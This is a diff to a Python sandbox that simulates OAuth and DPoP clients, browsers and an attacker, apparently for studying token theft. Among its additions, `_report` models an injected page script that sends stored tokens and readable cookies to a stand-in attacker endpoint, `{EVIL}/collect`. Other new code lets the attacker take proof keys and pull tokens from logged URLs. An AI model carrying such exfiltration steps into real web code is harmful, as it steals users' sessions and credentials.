@@ -15,7 +15,7 @@ from sandbox import grammar
 from sandbox.cast import CAST, EVIL
 from sandbox.parties.authorization_server import AuthorizationServer
 from sandbox.parties.browser import Browser
-from sandbox.parties.client import Refused, Session
+from sandbox.parties.client import OAuthClient, Refused, Session
 from sandbox.parties.client_hosts import Hosted
 from sandbox.proofs import prove
 from sandbox.tokens import Decoded, Key, NotAJwt, b64, decode, packed, pem, shared_key, signature_fits
@@ -39,7 +39,8 @@ def sign_in(world: World, actor: str, args: grammar.SignIn) -> Outputs:
     client, browser = world.clients[actor], world.browsers[args.browser]
     browser.begin(args.hold or "")
     at, api = CAST[args.at].host if args.at else "", CAST[args.api].host if args.api else ""
-    browser.visit(client.start_url(scope=args.scope or "", at=at, api=api, response=args.response or ""))
+    how = args.how if args.how != "redirect" else ""
+    browser.visit(client.start_url(scope=args.scope or "", at=at, api=api, response=args.response or "", how=how))
     _say_yes(world, browser, args.user or browser.owner)
     return _where(browser) | _held_by(client.session_in(browser))
 
@@ -132,11 +133,13 @@ def disconnect(world: World, actor: str, args: grammar.Disconnect) -> Outputs:
 def call_api(world: World, actor: str, args: grammar.CallApi) -> Outputs:
     request = _api_request(args)
     if actor == world.attacker.name:
+        _own_keys(world)
         sent = world.attacker.present(request, _text(args.token), args.scheme or "")
         world.net.deliver(sent, args.from_ or actor)
         return {}
-    if args.browser is None:
-        raise Missing("a browser with a session")
+    if args.browser is None or actor in world.services:
+        _in_its_own_name(world, actor, args, request)
+        return {}
     client, browser = world.clients[actor], world.browsers[args.browser]
     session, resource = client.session_in(browser), CAST[args.api].host
     if session is None or not session.tokens:
@@ -144,15 +147,42 @@ def call_api(world: World, actor: str, args: grammar.CallApi) -> Outputs:
     if args.token is not None:
         client.sender(browser)(request.with_header("Authorization", f"Bearer {_text(args.token)}"))
         return {}
-    if client.lacks_token(session, resource):
+    if CAST[args.api].kind == "api" and client.lacks_token(session, resource):
         _token_for(world, client, browser, session, resource)
-    client.call(session, request, resource, client.sender(browser))
+    client.fetch(browser, session, request, resource)
     return {}
 
 
 def _api_request(args: grammar.CallApi) -> Request:
-    url, headers = CAST[args.api].host + args.path, tuple((args.headers or {}).items())
+    url, headers = CAST[args.via or args.api].host + args.path, tuple((args.headers or {}).items())
     return json_request(args.method, url, args.json_, headers) if args.json_ is not None else Request(args.method, url, headers)
+
+
+def _in_its_own_name(world: World, actor: str, args: grammar.CallApi, request: Request) -> None:
+    """A request that belongs to nobody's session: with a token given to the client, or with one that it got for itself."""
+    client = _client(world, actor)
+    session, resource = client.own, CAST[args.api].host
+    if args.token is None and not session.tokens:
+        raise Missing("a browser with a session, or a token")
+    token = _text(args.token) if args.token is not None else session.access_token(resource)
+    if token in session.tokens.values():
+        client.call(session, request, next(r for r, t in session.tokens.items() if t == token), lambda r: client.ask(session, r))
+    else:
+        client.ask(session, request.with_header("Authorization", f"Bearer {token}"))
+
+
+def _client(world: World, actor: str) -> OAuthClient:
+    """The actor as a client; a service is one, too."""
+    return world.clients[actor] if actor in world.clients else world.services[actor]
+
+
+def _own_keys(world: World) -> None:
+    """The keys that clients keep in browsers of hers are hers."""
+    for device in (b.name for b in world.browsers.values() if CAST[b.name].hers):
+        for client in world.clients.values():
+            session = client.sessions.get(device)
+            if session is not None and session.bound:
+                world.attacker.keep(client.proof_key(session))
 
 
 def _token_for(world: World, client: Hosted, browser: Browser, session: Session, resource: str) -> None:
@@ -194,12 +224,17 @@ def redeem(world: World, actor: str, args: grammar.Redeem) -> Outputs:
         request = form_request(f"{issuer.issuer}/token", _grant(args))
         response = world.net.deliver(_with_proof(world, actor, args, request, issuer), actor)
     body = response.json if response.ok and isinstance(response.json, dict) else {}
+    if actor != world.attacker.name and isinstance(body.get("access_token"), str):
+        own = _client(world, actor).own
+        own.tokens[CAST[args.api].host if args.api else "any"] = body["access_token"]
+        own.bound = str(body.get("token_type")).lower() == "dpop"
     renewed = body.get("refresh_token") or (args.refresh_token if body else None)
     return {"access_token": body.get("access_token"), "refresh_token": renewed, "id_token": body.get("id_token")}
 
 
 def _grant(args: grammar.Redeem) -> dict[str, str]:
     fields: dict[str, Any] = {"client_id": args.client, "client_secret": args.client_secret, "scope": args.scope}
+    fields |= {"resource": CAST[args.api].host} if args.api else {}
     if args.code is not None:
         redirect = args.redirect_uri or (f"{CAST[args.client].host}/cb" if args.client in CAST else None)
         fields |= {"grant_type": "authorization_code", "code": args.code, "redirect_uri": redirect, "code_verifier": args.verifier}
@@ -215,7 +250,8 @@ def _grant(args: grammar.Redeem) -> dict[str, str]:
 def _with_proof(world: World, actor: str, args: grammar.Redeem, request: Request, issuer: AuthorizationServer) -> Request:
     """With the client's secret if the client itself asks; with a DPoP proof if the server knows DPoP, by the best key at hand."""
     if actor != world.attacker.name:
-        return world.clients[actor].authenticated(request)
+        client = _client(world, actor)
+        return client.proved(client.own, client.authenticated(request))
     if "dpop_signing_alg_values_supported" not in issuer.describe():
         return request
     key = next(reversed(world.attacker.keys.values()))  # a taken key, if there is one, else her own
@@ -265,18 +301,16 @@ def read(world: World, actor: str, args: grammar.Read) -> Outputs:
     if args.log is not None:
         return _read_log(world, args.log, args.match)
     if args.history is not None:
-        return _read_history(world, args.history, args.match)
+        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
     if args.storage is not None:
-        client = world.clients[args.storage]
-        found = [client.session_in(world.browsers[args.browser])] if args.browser else list(client.sessions.values())
-        return _take(world, (s for s in found if s is not None), f"the storage of {args.storage}", None)
+        return _read_storage(world, args.storage, args.browser, args.take)
     return _read_device(world, args.device or "")
 
 
 def _read_log(world: World, party: str, match: str | None) -> Outputs:
     """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
     if party in world.browsers:
-        return _read_history(world, party, match)
+        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
     entries = world.apis[party].log if party in world.apis else []
     entry = next((r for r in reversed(entries) if match is None or match in r.url), None)
     if entry is None:
@@ -292,13 +326,40 @@ def _read_log(world: World, party: str, match: str | None) -> Outputs:
     return {"request": None, "url": entry.url, "access_token": None}
 
 
-def _read_history(world: World, browser: str, match: str | None) -> Outputs:
-    url = next((u for u in reversed(world.browsers[browser].history) if match is None or match in u), None)
+def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
+    """The newest address that matches, and the token in it if there is one."""
+    url = next((u for u in reversed(addresses) if match is None or match in u), None)
     if url is None:
         return {"url": None, "access_token": None}
-    world.net.learned(world.attacker.name, "url", url, f"the history of {browser}")
+    world.net.learned(world.attacker.name, "url", url, source)
     parts = split(url)
     return {"url": url, "access_token": first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")}
+
+
+def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
+    """All that a client has stored: on its server, or in one browser."""
+    client = world.clients[name]
+    if browser is None:
+        return _take(world, client.sessions.values(), f"the storage of {name}")
+    session = client.stored(world.browsers[browser])
+    if client.in_page:
+        out = _report(client, world.browsers[browser], session)
+    else:
+        out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
+    if take and session is not None:
+        session.tokens.clear()
+        session.refresh_token = session.id_token = ""
+    return out
+
+
+def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
+    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
+    jar = browser.cookies.get(split(client.home).netloc, {})
+    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
+    held = _held_by(session)
+    storage = {k: v for k, v in held.items() if v}
+    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    return held
 
 
 def _read_device(world: World, device: str) -> Outputs:
@@ -312,10 +373,10 @@ def _read_device(world: World, device: str) -> Outputs:
                 key = client.proof_key(session)
                 world.attacker.keep(key)
                 world.net.learned(world.attacker.name, "key", key.thumbprint, device)
-    return _take(world, found, device, None)
+    return _take(world, found, device)
 
 
-def _take(world: World, sessions: Iterable[Session], source: str, match: str | None) -> Outputs:
+def _take(world: World, sessions: Iterable[Session], source: str) -> Outputs:
     out: Outputs = {"access_token": None, "refresh_token": None, "id_token": None}
     for session in sessions:
         held = _held_by(session)
